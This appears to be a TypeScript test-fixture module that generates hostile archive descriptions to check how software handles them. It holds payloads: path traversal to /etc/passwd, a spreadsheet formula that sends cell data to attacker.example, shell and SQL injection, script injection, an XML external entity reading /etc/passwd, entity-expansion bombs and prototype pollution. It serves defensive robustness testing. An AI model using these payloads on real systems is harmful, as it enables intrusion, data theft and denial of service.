import type { Draws } from '../../../draws';
import { asciiJson, base64, utf7 } from './encodings';

const LONGEST = 1024;
const padded = (text: string, by: string): string => text + by.repeat(LONGEST - text.length);

const TRAVERSAL = [
  (n: number) => `../../../etc/cron.d/${n}`,
  (n: number) => `/etc/passwd.${n}`,
  (n: number) => `..\\..\\Windows\\System32\\${n}.dll`,
  (n: number) => `C:\\Windows\\System32\\drivers\\etc\\hosts.${n}`,
  (n: number) => `\\\\server\\share\\${n}`,
  (n: number) => `a/./b//../c/${n}/`,
  (n: number) => `%2e%2e%2f%2e%2e%2f${n}%00.jpg`,
  () => '..',
  () => '///',
  () => '   ',
  (n: number) => `CON/NUL.txt/${n}. `,
] as const;

const CHARACTERS = [
  (n: number) => asciiJson({ path: `a\0b\x07\r\n${n}` }),
  (n: number) => asciiJson({ path: `\x1b[2J\x1b]0;owned\x07${n}` }),
  (n: number) => asciiJson({ path: `invoice-${n}-\u202egpj.exe` }),
  (n: number) => asciiJson({ path: `zero\u200bwidth\ufeff\u2028${n}` }),
  (n: number) => asciiJson({ path: `lone \ud800 surrogate ${n}` }),
  (n: number) => `<m><v>4</v><p>${Buffer.from(`\xc0\xaf\xff\xfe${n}`, 'latin1').toString('base64')}</p></m>`,
] as const;

const LENGTH = [
  (n: number) => padded(`long-${n}-`, 'x'),
  (n: number) => padded(`deep-${n}`, '/'),
  (n: number) => `<m><v>4</v><p>${base64(`${n}/${'ä'.repeat(360)}.txt`)}</p></m>`,
  /** 1,080 bytes as UTF-8: more than a key of S3 may have. */
  (n: number) => JSON.stringify({ Path: utf7(`${n}-${'\u5199'.repeat(360)}`) }),
] as const;

const INJECTION = [
  (n: number) => `=HYPERLINK("http://attacker.example/?"&A1,"${n}")`,
  (n: number) => `@SUM(1+1)*cmd|' /C calc'!A${n}`,
  (n: number) => `-2+3+${n}`,
  (n: number) => `"><script>alert(${n})</script>`,
  (n: number) => `<img src=x onerror=alert(${n})>.jpg`,
  (n: number) => `[open](javascript:alert(${n})) ![x](http://attacker.example/x.png)`,
  (n: number) => `$(touch /tmp/${n}); \`id\` | sh &`,
  (n: number) => `--delete=${n}`,
  (n: number) => `'; DROP TABLE archives; -- ${n}`,
  (n: number) => `%s%n%x {{${n}}} \${env:HOME}`,
  /** Texts that Glacier's CSV garbles. */
  (n: number) => `my archive,${n}\\"2`,
  (n: number) => `a,b${n}\\`,
  (n: number) => `"{"Path":"quoted-${n}.txt"}"`,
] as const;

const PARSERS = [
  (n: number) =>
    `<!DOCTYPE m [<!ENTITY a "YWFh${n}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}">]><m><v>4</v><p>${'&d;'.repeat(50)}</p></m>`,
  (n: number) => `<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><m><v>4</v><p>&x;${n}</p></m>`,
  (n: number) => `<m><v>4</v><p>${base64(`${n}`)}${'QUFB'.repeat(240)}</p></m>`,
  (n: number) => `{"path":${'['.repeat(400)}${n}${']'.repeat(400)}}`,
  (n: number) => `${'{"a":'.repeat(150)}${n}${'}'.repeat(150)}`,
  (n: number) => `{"__proto__":{"Path":"polluted"},"constructor":{"prototype":{"x":${n}}}}`,
  (n: number) => `{"Path":${n}}`,
  (n: number) => `{"Path":"","path":"${n}"}`,
  (n: number) => `{"Path":"first-${n}","Path":"second-${n}"}`,
] as const;

const HOSTILE = [...TRAVERSAL, ...CHARACTERS, ...LENGTH, ...INJECTION, ...PARSERS] as const;

/**
 * A description that harms careless software: as a path, on a terminal, in a spreadsheet, a page or a shell, by its
 * length, or in a parser of XML or JSON.
 * @param position makes most of them distinct
 */
export const hostileDescription = (position: number, draws: Draws): string => draws.pick(HOSTILE)(position);
